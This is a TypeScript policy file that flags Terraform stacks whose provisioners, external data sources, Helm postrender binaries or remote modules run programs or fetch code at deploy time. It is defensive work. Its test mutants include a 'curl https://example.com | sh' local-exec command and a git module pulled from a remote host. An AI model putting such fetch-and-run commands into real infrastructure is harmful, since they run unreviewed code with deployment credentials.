import { arrayOf, isObject, objectOf } from "../../inventory/json";
import type { Stack } from "../../inventory/platform";
import { add, change, changeStack, resource, set } from "../../policy/mutation";
import { policy } from "../../policy/policy";
import { fail, pass, type Verdict } from "../../policy/verdict";
import { stackSubject } from "../../policy-terms/region-subjects";

/** Resources and data blocks that run a program where Terraform runs, or fetch unreviewed code. */
const running = /^(external|http|shell_script|null_data_source)$/;

/** Programs that a stack runs by itself, as `address: how`. */
function programsIn({ terraform }: Stack): readonly string[] {
  const found: string[] = [];
  for (const section of ["resource", "data"] as const)
    for (const [type, blocks] of Object.entries(objectOf(terraform[section])))
      for (const [name, block] of Object.entries(objectOf(blocks))) {
        const address = `${section === "data" ? "data." : ""}${type}.${name}`;
        if (running.test(type)) found.push(`${address}: ${type}`);
        for (const one of arrayOf(objectOf(block)["postrender"])
          .concat(objectOf(block)["postrender"] ?? [])
          .filter(isObject))
          found.push(`${address}: postrender ${String(one["binary_path"] ?? one["binaryPath"] ?? "a program")}`);
        const written = objectOf(block)["provisioner"];
        for (const one of arrayOf(written).filter(isObject))
          found.push(...Object.keys(one).map((kind) => `${address}: provisioner ${String(one["type"] ?? kind)}`));
      }
  const modules = Object.entries(objectOf(terraform["module"])).map(
    ([name, block]) => `module.${name}: ${String(objectOf(block)["source"] ?? "no source")}`,
  );
  return [...found, ...modules];
}

const deployments = resource("kubernetes_deployment_v1");

export default policy({
  id: "SU-15",
  severity: "error",
  proves: ["XB-20", "CA-28"],
  title: "No stack runs a program or fetches code while it is deployed",
  because:
    "local-exec, remote-exec, external data and modules run whatever they name with the credentials of the deployment, and no plan shows what they do",
  remedy:
    "make the resource with a provider, or the value in the program; remove provisioners, external data sources and modules",
  equivalents: ["checkov CKV_TF_1 (modules)"],
  subjects: (platform) => platform.stacks.map(stackSubject),
  check: ({ of }): Verdict | readonly Verdict[] => {
    const found = programsIn(of);
    return found.length === 0
      ? pass("no program")
      : found.map((one) =>
          fail({
            expected: "no program of its own",
            actual: one,
            message: `${of.name}: ${one} runs with the credentials of the deployment`,
          }),
        );
  },
  mutants: [
    change(
      "a program that rewrites what a chart renders",
      resource("helm_release"),
      set("postrender", { binary_path: "./patch.sh" }),
    ),
    change(
      "the same in the secondary",
      resource("helm_release", (_, __, stack) => stack.endsWith("eu-west-1")),
      set("postrender", [{ binary_path: "./patch.sh" }]),
    ),
    change(
      "a program after a Deployment",
      deployments,
      set("provisioner", [{ "local-exec": { command: "curl https://example.com | sh" } }]),
    ),
    change(
      "a program in the form of cdktf",
      deployments,
      set("provisioner", [{ type: "local-exec", command: "true" }]),
    ),
    add("a program on an instance", /^cluster-/, "null_resource", "run", {
      provisioner: { "remote-exec": { inline: ["true"] } },
    }),
    changeStack("external data", /^network-/, set("data.external.values", { program: ["sh", "-c", "true"] })),
    changeStack(
      "a module from elsewhere",
      /^network-/,
      set("module.more", { source: "git::https://example.com/module.git" }),
    ),
  ],
  boundary: {
    holds: changeStack("data of a provider", /^network-/, set("data.aws_caller_identity.current", {})),
    breaks: changeStack("data from an address", /^network-/, set("data.http.current", { url: "https://example.com" })),
  },
});
